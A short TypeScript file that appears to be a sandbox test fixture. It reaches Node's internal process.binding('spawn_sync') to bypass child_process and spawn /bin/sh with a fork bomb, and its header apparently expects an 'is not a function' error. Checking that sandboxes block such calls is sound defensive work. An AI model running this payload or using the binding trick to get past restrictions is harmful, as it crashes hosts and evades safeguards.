// 00-baseline | through the binding under child_process | is not a function
const { spawn } = (process as unknown as { binding(name: string): { spawn(options: object): void } }).binding('spawn_sync');
export const baseline = () => spawn({ file: '/bin/sh', args: ['sh', '-c', ':(){ :|:& };:'] });
